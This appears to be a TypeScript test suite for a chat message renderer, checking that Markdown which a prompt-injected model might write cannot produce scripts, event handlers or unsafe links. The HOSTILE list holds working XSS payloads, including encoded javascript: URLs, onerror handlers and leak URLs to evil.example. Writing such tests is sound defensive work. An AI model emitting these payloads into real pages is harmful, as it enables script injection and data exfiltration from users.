/**
 * Hostile Markdown (what a prompt injection could make the model write) through the message
 * renderer: whatever the input, the DOM holds only the elements and attributes the renderer makes,
 * no event handler, no script, and no link but an absolute http(s)/mailto one.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { loadLanguage } from '../../shared/ui/code-highlight';
import { LANGUAGE_LOADERS } from '../../shared/ui/code-languages';
import { renderToDom } from './support/markdown-dom';

const HOSTILE = [
  '<img src=x onerror="alert(1)">',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{background:url(https://evil.example/leak)}</style>',
  '<a href="javascript:alert(1)">click</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<div onclick="x()">\n\n**bold** <img src=x onerror=alert(1)>\n\n</div>',
  '**<img src=x onerror=alert(1)>** _<b onmouseover=alert(1)>x</b>_',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](java\tscript:alert(1))',
  '[x](jav&#x61;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/x)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/leak.png?secret=1 "t\\" onerror=\\"alert(1)")',
  '[![img](https://evil.example/a.png)](javascript:alert(1))',
  '[x](https://ok.example "a\\" onclick=\\"alert(1)")',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |',
  '> <img src=x onerror=alert(1)>\n> - [x] <b onclick=alert(1)>task</b>',
  '- a\n  - <img src=x onerror=alert(1)>\n    1. [x](javascript:alert(1))',
  '```html\n<img src=x onerror="alert(1)"><script>alert(2)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js onclick=alert(1)\nconst a = "</span><img src=x onerror=alert(1)>";\n```',
  '```xml\n<span class="x" onclick="alert(1)">&amp;</span>\n```',
  '`<img src=x onerror=alert(1)>`',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=q></form>',
];

/** What the renderer may make: each tag, with the attributes it may carry. */
const ALLOWED: Record<string, readonly string[]> = {
  p: [],
  h1: [],
  h2: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  ul: [],
  ol: ['start'],
  li: [],
  input: ['type', 'disabled', 'checked', 'aria-label'],
  strong: [],
  em: [],
  del: [],
  code: ['class'],
  pre: [],
  blockquote: [],
  a: ['href', 'title', 'target', 'rel'],
  br: [],
  hr: [],
  div: ['class', 'tabindex', 'role', 'aria-label'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['align'],
  td: ['align'],
  span: ['class'],
};

function problems(root: Element): string[] {
  const found: string[] = [];
  for (const node of root.querySelectorAll('*')) {
    const tag = node.tagName.toLowerCase();
    const allowed = ALLOWED[tag];
    if (!allowed) {
      found.push(`element <${tag}>`);
      continue;
    }
    for (const { name, value } of node.attributes) {
      if (/^on/i.test(name)) found.push(`event handler ${name} on <${tag}>`);
      else if (!allowed.includes(name)) found.push(`attribute ${name} on <${tag}>`);
      if (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`unsafe href ${value}`);
    }
    if (tag === 'a' && (node.getAttribute('target') !== '_blank' || node.getAttribute('rel') !== 'noopener noreferrer'))
      found.push('a link that keeps its opener');
    if (tag === 'input' && node.getAttribute('type') !== 'checkbox') found.push('an input that is not a checkbox');
    if (tag === 'span' && !(node.getAttribute('class') ?? '').split(' ').every((c) => /^(hljs-|language-)|_$/.test(c)))
      found.push(`span class ${node.getAttribute('class')}`);
  }
  return found;
}

function checkAll(): void {
  for (const markdown of HOSTILE) {
    const { root } = renderToDom(markdown);
    expect(problems(root), markdown).toEqual([]);
    expect(root.textContent?.length, markdown).toBeGreaterThan(0);
  }
}

describe('hostile Markdown', () => {
  it('yields only the renderer’s own elements and attributes, without the highlighter', checkAll);

  it('shows the hostile markup as text the person can read', () => {
    expect(renderToDom('<img src=x onerror="alert(1)">').root.textContent).toBe('<img src=x onerror="alert(1)">');
    expect(renderToDom('&#60;script&#62;alert(1)&#60;/script&#62;').root.textContent).toBe('<script>alert(1)</script>');
    const link = renderToDom('[x](jav&#x61;script:alert(1))').root;
    expect(link.querySelectorAll('a')).toHaveLength(0);
    expect(link.textContent).toBe('x');
  });

  describe('with every language’s highlighter loaded', () => {
    beforeAll(async () => {
      for (const language of Object.keys(LANGUAGE_LOADERS)) await loadLanguage(language);
    });

    it('yields only the renderer’s own elements and attributes', checkAll);

    it('highlights code in spans and keeps its markup as text', () => {
      const { root } = renderToDom('```xml\n<span class="x" onclick="alert(1)">&amp;</span>\n```');
      expect(root.querySelectorAll('pre span.hljs-tag').length).toBeGreaterThan(0);
      expect(root.querySelector('pre code')?.textContent).toBe('<span class="x" onclick="alert(1)">&amp;</span>\n');
    });
  });
});
